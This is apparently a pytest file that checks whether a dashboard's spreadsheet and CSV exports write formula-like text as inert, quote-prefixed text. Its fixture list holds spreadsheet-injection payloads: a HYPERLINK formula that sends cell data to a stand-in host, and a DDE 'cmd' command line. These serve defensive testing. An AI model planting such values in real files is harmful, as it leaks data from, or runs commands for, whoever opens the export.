"""Exports are inert: text that a spreadsheet would run as a formula is written as text.

Instructions whose text fields start with = + - @ (and their full-width forms) go through the live bot;
the dashboard's .xlsx and .csv exports, downloaded as the center and as a station officer, are read back:
no cell of the workbook is a formula (nor an <f> element in its XML), text that starts like one carries
the quote prefix, every such CSV field starts with ', and numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from bot.reports.exports import FORMULA_TRIGGERS
from tests.helpers import AUTH, instruction, wait_state
from tests.test_dashboard import admin_login, oauth_login

HOSTILE = [
    # (fraud_type, target name, target phone, instruction_no)
    ('=HYPERLINK("http://e.vil/?"&B2)', "=cmd|' /C calc'!A0", "+86 139 1234 5678", "-A1"),
    ("+SUM(1,1)", "@SUM(A1:A9)", "13912345678", "YJ-INERT-2"),
    ("-2+3", "＝1+1", "13912345679", "YJ-INERT-3"),
    ("@A1", "唐晓燕", "13912345670", "YJ-INERT-4"),
    ("＋1 ＠x －y", "-1+1", "13912345671", "YJ-INERT-5"),
]
EXPORTS = ("/dashboard/export/instructions.{fmt}?state=all", "/dashboard/export/instructions.{fmt}?state=all&full=1",
           "/dashboard/export/bulletin.{fmt}?kind=weekly")


@pytest.fixture
async def hostile(dash, sim) -> list[int]:
    numbers = []
    for fraud_type, name, phone, number in HOSTILE:
        body = instruction(fraud_type=fraud_type, instruction_no=number,
                           target={"name": name, "phone": phone, "age": 70})
        resp = await dash.post("/api/v1/instructions", headers=AUTH, json=body)
        assert resp.status == 202, await resp.text()
        numbers.append((await resp.json())["id"])
    for n in numbers:
        await wait_state(dash, n, "dispatched")
    sim.clock.advance(10 * 60)  # past the sign-for deadline: they are in the bulletin's overdue list too
    return numbers


def _assert_inert_xlsx(data: bytes) -> list:
    """Every cell read back: no formula; text that starts like one is quote-prefixed. Returns the cells."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    cells = [c for sheet in load_workbook(io.BytesIO(data)).worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_TRIGGERS)]
    assert [(c.coordinate, c.value) for c in risky if not c.quotePrefix] == []
    return cells


def _assert_inert_csv(data: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    fields = [f for row in rows for f in row]
    assert [f for f in fields if f.startswith(FORMULA_TRIGGERS)] == []
    return rows


@pytest.mark.parametrize("who", ["admin", "wangqiang"])
async def test_exports_write_formula_like_text_as_text(aiohttp_client, dash, hostile, who):
    client = (await admin_login(aiohttp_client, dash))[0] if who == "admin" else await oauth_login(
        aiohttp_client, dash, who)
    downloaded = 0
    for path in EXPORTS:
        xlsx = await client.get(path.format(fmt="xlsx"))
        text = await client.get(path.format(fmt="csv"))
        if "full=1" in path and who != "admin":
            assert (xlsx.status, text.status) == (403, 403)  # full data is the center's
            continue
        assert (xlsx.status, text.status) == (200, 200), path
        downloaded += 1
        cells = _assert_inert_xlsx(await xlsx.read())
        rows = _assert_inert_csv(await text.read())
        # The hostile values are there, as text; ids and amounts are still numbers.
        values = {c.value for c in cells}
        assert {f for f, *_ in HOSTILE} <= values
        if "instructions" not in path:
            continue
        assert "'" + HOSTILE[0][0] in {f for row in rows for f in row}
        ids = [c.value for c in cells if c.column == 1 and c.row > 1]
        assert sorted(ids) == sorted(hostile) and all(isinstance(v, int) for v in ids)
        assert all(row[0].isdigit() for row in rows[1:])
        if "full=1" in path:
            assert {n for _, n, *_ in HOSTILE} <= values and "+86 139 1234 5678" in values
            assert "'=cmd|' /C calc'!A0" in {f for row in rows for f in row}
        else:  # masked names still start like formulas (=某): still text
            assert {"=某", "@某", "-某", "＝某"} <= values
    assert downloaded == (3 if who == "admin" else 2)
